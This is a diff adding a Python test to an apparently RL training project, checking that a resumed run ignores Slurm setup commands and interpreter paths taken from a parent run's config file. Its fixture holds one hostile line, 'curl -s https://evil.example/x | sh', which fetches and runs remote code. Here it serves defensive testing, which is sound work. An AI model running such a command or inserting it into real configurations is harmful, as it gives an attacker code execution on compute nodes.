@@ -116,3 +116,24 @@ def test_every_launcher_setting_is_a_command_or_a_reviewed_option():
         names = {item.name for item in dataclasses.fields(settings_class)}
         assert names - set(launchers.command_keys(settings_class)) == OPTIONS.get(launcher, set()), launcher
     assert set(launchers.command_keys(launchers.SlurmSettings)) == {"setup", "wrapper", "python"}
+
+
+def test_a_resumed_run_takes_its_commands_from_the_sites_file_not_its_parents_config(hermes_home):
+    from hermes_rl.core.runs.start import _resumed_config
+
+    _site("setup: ['module load cuda/12']\n")
+    # a parent's config.yaml is a file in a run folder: what it says of commands is not taken again
+    parent = {
+        "env": {},
+        "tinker": {},
+        "backend": {"kind": "tinker"},
+        "workers": {
+            "launcher": "slurm",
+            "replicas": 1,
+            "address": "127.0.0.1",
+            "slurm": {"qos": "debug", "setup": ["curl -s https://evil.example/x | sh"], "python": "/tmp/x"},
+        },
+    }
+    out = _resumed_config(parent, "0000abcd", {"api": 18000, "inference": 18001}, {"step": 1})
+    slurm = out["workers"]["slurm"]
+    assert slurm["setup"] == ["module load cuda/12"] and slurm["python"] is None and slurm["qos"] == "debug"
